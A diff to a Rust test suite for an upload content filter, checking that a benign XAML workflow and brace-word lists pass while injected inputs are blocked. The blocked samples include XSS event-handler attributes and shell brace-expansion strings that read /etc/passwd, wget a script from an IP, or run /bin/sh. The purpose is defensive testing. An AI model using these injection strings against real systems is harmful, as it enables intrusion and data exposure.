@@ -3324,6 +3324,31 @@ fn holdout35_to_38_shapes_pass_and_their_attacks_still_score() {
             assert!(o.blocked, "{doc}: {o:?}");
         }
     }
+    // Holdout40's shape: a XAML workflow whose attribute values hold `&quot;` (decoded, a quote
+    // inside the value's own quotes) is still a document of its own vocabulary, as a multipart
+    // part and as a JSON string; a value that holds another attribute is not.
+    let xaml = "<Activity mc:Ignorable=\"sap\" x:Class=\"Main\" xmlns=\"http://schemas.microsoft.com/netfx/2009/xaml/activities\" xmlns:x=\"http://schemas.microsoft.com/winfx/2006/xaml\">\n  <x:Members>\n    <x:Property Name=\"in_Invoice\" Type=\"InArgument(ui:QueueItem)\" />\n  </x:Members>\n  <Sequence DisplayName=\"Process Invoice\">\n    <ui:CreateFormTask Title=\"[String.Format(&quot;Approve {0} \u{2013} {1:N2} EUR&quot;, invoiceNo, amount)]\" />\n    <Assign DisplayName=\"Set status\"><Assign.Value><InArgument x:TypeArguments=\"x:String\">[If(amount &gt; 10000D, \"PendingApproval\", \"Posted\")]</InArgument></Assign.Value></Assign>\n  </Sequence>\n</Activity>";
+    assert!(!upload(xaml, "application/xaml+xml").blocked);
+    for o in both(xaml) {
+        assert!(!o.blocked, "{o:?}");
+    }
+    let decoded = xaml.replace("&quot;", "\"").replace("&gt;", ">").to_ascii_lowercase();
+    assert!(context::own_vocabulary(decoded.as_bytes()), "{decoded}");
+    assert!(context::own_vocabulary(b"<r><s name='o'hara'>b</s><s name=\"a\">c</s></r>"));
+    for doc in [
+        res("<string name=\"t\" title=\"a\"onclick=\"alert(1)\">b</string>"),
+        res("<string name=\"t\" title=\"a\"/onmouseover=\"alert(1)\">b</string>"),
+        res("<string name=\"t\" title=\"a\" x=\"y\"onfocus=alert(1) z=\"w\">b</string>"),
+        res("<string name='t' title='a'onpointerenter='alert(1)'>b</string>"),
+        res("<string name=\"t\" title=\"a\"  onclick =alert(1)//\">b</string>"),
+    ] {
+        assert!(!context::own_vocabulary(doc.to_ascii_lowercase().as_bytes()), "{doc}");
+        let o = upload(&doc, "application/xml");
+        assert!(o.blocked, "{doc}: {o:?}");
+        for o in both(&doc) {
+            assert!(o.blocked, "{doc}: {o:?}");
+        }
+    }
     for v in [
         // 3208: a signed decimal after `~+` is no directory-stack entry.
         "Trend up ~+0.004/subgroup since the fixture swap; Cpk holds at 1.41.",
@@ -3336,12 +3361,28 @@ fn holdout35_to_38_shapes_pass_and_their_attacks_still_score() {
         // 3305: a quoted word before words in parentheses (a glossary's note in a CSV).
         "term,locale,translation,notes\ntrail,de,Weg,\"Not 'Pfad' (too narrow), not 'Tour'\"\n",
         "Say 'Weg' (the general word) here.",
+        // 3208 (holdout40): a brace list of plain words standing alone is a set of choices.
+        "Marginal rate lookup; status must be one of {single,mfj} until HOH is added.",
+        "locales {en,fr,de} ship first (see {a,b}).",
+        "Rate for {single,mfj}.",
+        "=LET(s,{\"single\",\"mfj\"},s)",
     ] {
         for o in both(v) {
             assert!(!o.blocked, "{v}: {o:?}");
         }
     }
     for v in [
+        "{cat,/etc/passwd}",
+        ";{cat,/etc/passwd}",
+        "{wget,http://203.0.113.9/x.sh}",
+        "{/bin/sh,-c,id}",
+        "{./run.sh,x}",
+        "x;{ls,-la}",
+        "c{a,oun}t /etc/passwd",
+        "{ca,}t /etc/passwd",
+        "/bin/ca{t,} /etc/passwd",
+        "x]{cat,/etc/passwd}",
+        "${cat,/etc/passwd}",
         "cat ~+/etc/passwd",
         "~+5",
         ";cat ~+1/x",
